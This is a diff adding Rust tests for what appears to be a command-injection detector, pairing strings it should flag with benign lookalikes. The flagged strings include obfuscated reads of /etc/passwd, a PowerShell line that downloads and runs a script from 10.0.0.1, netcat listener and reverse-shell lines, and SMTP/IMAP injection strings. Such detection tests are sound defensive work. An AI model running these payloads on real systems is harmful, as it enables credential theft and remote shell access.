+            &[
+                "{,ip,a}",
+                "{l,-lh}s",
+                "{id,}",
+                "{,ifconfig,eth0}",
+                "{,$'whoami',}",
+            ],
+            &["{id,name,email}", "file{1,2}.txt", "fields={name,id}"],
+        );
+    }
+
+    #[test]
+    fn obfuscated_command_names() {
+        shape_cases(
+            &[
+                "'c'url localhost",
+                "\"w\"get localhost",
+                "ti''me who",
+                "una$$me -a",
+                "uname$u -a",
+                "\\ls",
+                "pi$()ng 127.0.0.1",
+                "pi<()ng 127.0.0.1",
+                "ping`` 127.0.0.1",
+                "x;c$!at+/et$!c/pas$!swd",
+            ],
+            &[
+                "O'keefe's",
+                "Mosaic \"Table top\"",
+                "\"Dr. Who\" and coffee",
+                "it's",
+                "US$ 5",
+                "c:\\ls",
+                "$_get['id']",
+            ],
+        );
+    }
+
+    #[test]
+    fn variables_assembled_into_commands() {
+        shape_cases(
+            &[
+                "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
+                "a=nc&&$a -nlvp 555",
+                "c1=i;c2=d;$c1$c2;",
+            ],
+            &["a=1&b=2", "x=5; total=$x", "price=$5"],
+        );
+    }
+
+    #[test]
+    fn globbed_system_paths() {
+        shape_cases(
+            &[
+                "/etc/pas[s]wd",
+                "/etc/[!q]asswd",
+                "/usr/[a-z]in/bash",
+                "x /[e///]tc",
+            ],
+            &["/api/items[0]/name", "/var/log/app[1].log", "filter[name]=x"],
+        );
+    }
+
+    #[test]
+    fn mail_protocol_commands() {
+        shape_cases(
+            &[
+                "x\r\nMAIL FROM:<a@b.com>",
+                "\r\nRCPT TO:<postmaster>",
+                "\r\nDATA",
+                "\r\nEHLO test.com",
+                "\r\nRETR 123",
+                "\r\na001 EXAMINE INBOX",
+                "\r\nA1 list \"INBOX/\" \"*\"",
+                "\r\nd store 2 +FLAGS (\\Deleted)",
+            ],
+            &[
+                "Hello,\r\nData is attached.\r\nThanks",
+                "Line one\nA1 list of items\nQuit smoking",
+                "MAIL FROM:<a@b.com>",
+                "notes\r\nHelp wanted",
+            ],
+        );
+    }
+
+    #[test]
+    fn prefixes_editors_and_powershell() {
+        shape_cases(
+            &[
+                "nohup who",
+                "strace id",
+                ";vim x +silent\\ \\!whoami +wq",
+                ";iex (iwr http://10.0.0.1/x.ps1)",
+                "ansible all -m ping",
+                ";\\n.shell nc 10.0.0.1 6666 -e sh",
+            ],
+            &["time who", "nice who", "ansible tutorial", "vim tips!"],
+        );
     }
 
     #[test]
